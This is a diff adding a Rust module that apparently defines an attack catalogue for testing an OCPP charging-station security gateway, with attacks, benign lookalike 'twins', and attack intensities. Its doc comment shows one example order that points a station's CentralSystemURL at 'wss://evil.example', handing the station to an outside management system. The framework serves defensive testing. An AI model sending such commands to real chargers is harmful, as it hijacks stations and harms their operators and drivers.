@@ -1,0 +1,181 @@
+//! The attack catalogue as something that can be played.
+//!
+//! An [`Entry`] is one attack of the catalogue. It has several [`Attack`]s, which are different ways to bring the same about
+//! (other messages, other spellings, split over several messages), and [`Twin`]s: what looks the same and is somebody's
+//! work. Both are functions over a [`Play`], which has the standard fleet at hand, counts what reaches a station, and
+//! lets time pass as the [`Intensity`] demands.
+//!
+//! ```ignore
+//! Entry {
+//!     id: "C07",
+//!     name: "the station is moved to another management system",
+//!     versions: ALL,
+//!     kind: Kind::Hard,
+//!     attacks: vec![Attack::order("a vendor's key", &[Version::V16], |_| {
+//!         order("ChangeConfiguration", json!({"key": "CentralSystemURL", "value": "wss://evil.example"}))
+//!     })],
+//!     twins: vec![Twin::order("an interval", ALL, |at| at.setting("HeartbeatInterval", "300"))],
+//! }
+//! ```
+
+pub mod entries;
+mod order;
+mod play;
+mod report;
+mod run;
+mod tally;
+
+use chargewarden_ocpp::Version;
+
+pub use order::{Order, Sketch, Spot, order, variables};
+pub use play::Play;
+pub use report::{FLEET_PERCENT_MAX, Row, TwinRow};
+pub use run::{Drill, Stage};
+pub use tally::{Count, Leak, Tally};
+
+/// Every version.
+pub const ALL: &[Version] = &[Version::V16, Version::V201, Version::V21];
+/// The versions with a device model.
+pub const V2: &[Version] = &[Version::V201, Version::V21];
+
+/// An entry of the catalogue.
+pub struct Entry {
+    /// Its id, such as `C07`.
+    pub id: &'static str,
+    /// What happens, in a line.
+    pub name: &'static str,
+    /// Versions in which it is to be stopped.
+    pub versions: &'static [Version],
+    /// What counts as stopped.
+    pub kind: Kind,
+    /// Ways to do it.
+    pub attacks: Vec<Attack>,
+    /// Work that looks the same.
+    pub twins: Vec<Twin>,
+}
+
+/// What counts as stopped.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+pub enum Kind {
+    /// Nothing may reach a station: one that does is a leak.
+    Hard,
+    /// Each command is ordinary; all together may affect at most 5 % of the fleet.
+    Cumulative,
+    /// A station lies: refused, or passed on with a mark that people see. Of tokens, meters and status the truth is never lost.
+    Report,
+    /// A management system answers what it should not: the station is not told.
+    Answer,
+    /// Happens at the sockets: played against a running gateway.
+    Transport,
+}
+
+impl Kind {
+    /// Name in reports.
+    pub fn name(self) -> &'static str {
+        match self {
+            Self::Hard => "hard",
+            Self::Cumulative => "cumulative",
+            Self::Report => "report",
+            Self::Answer => "answer",
+            Self::Transport => "transport",
+        }
+    }
+}
+
+/// How hasty the attacker is.
+#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord, Hash)]
+pub enum Intensity {
+    /// All at once.
+    Burst,
+    /// One a minute.
+    Paced,
+    /// One in 20 min, for days.
+    LowAndSlow,
+}
+
+impl Intensity {
+    /// Every intensity.
+    pub const ALL: [Self; 3] = [Self::Burst, Self::Paced, Self::LowAndSlow];
+
+    /// Name in reports and on the command line.
+    pub fn name(self) -> &'static str {
+        match self {
+            Self::Burst => "burst",
+            Self::Paced => "paced",
+            Self::LowAndSlow => "slow",
+        }
+    }
+}
+
+/// One way to do it.
+pub struct Attack {
+    /// What is peculiar about it, in a few words.
+    pub name: &'static str,
+    /// Versions of the stations that it is tried on.
+    pub versions: &'static [Version],
+    /// Plays it.
+    pub play: Box<dyn Fn(&mut Play<'_>) + Send + Sync>,
+}
+
+/// Work that looks like an attack.
+pub struct Twin {
+    /// What it is, in a few words.
+    pub name: &'static str,
+    /// Versions of the stations that it is done on.
+    pub versions: &'static [Version],
+    /// Plays it.
+    pub play: Box<dyn Fn(&mut Play<'_>) + Send + Sync>,
+}
+
+impl Attack {
+    /// Of any kind.
+    pub fn new(
+        name: &'static str,
+        versions: &'static [Version],
+        play: impl Fn(&mut Play<'_>) + Send + Sync + 'static,
+    ) -> Self {
+        Self { name, versions, play: Box::new(play) }
+    }
+
+    /// One command to each station that is attacked.
+    pub fn order(
+        name: &'static str,
+        versions: &'static [Version],
+        write: impl Fn(&Spot) -> Order + Send + Sync + 'static,
+    ) -> Self {
+        Self::new(name, versions, move |play| {
+            play.campaign(|play, place| {
+                if let Some(spot) = play.spot(place) {
+                    play.strike(place, &write(&spot));
+                }
+            });
+        })
+    }
+}
+
+impl Twin {
+    /// Of any kind.
+    pub fn new(
+        name: &'static str,
+        versions: &'static [Version],
+        play: impl Fn(&mut Play<'_>) + Send + Sync + 'static,
+    ) -> Self {
+        Self { name, versions, play: Box::new(play) }
+    }
+
+    /// One command to one station of each version.
+    pub fn order(
+        name: &'static str,
+        versions: &'static [Version],
+        write: impl Fn(&Spot) -> Order + Send + Sync + 'static,
+    ) -> Self {
+        Self::new(name, versions, move |play| {
+            for place in play.one_of_each() {
+                if let Some(spot) = play.spot(place) {
+                    play.work(place, &write(&spot));
+                    play.wait_s(600);
+                }
+            }
+        })
+    }
+}
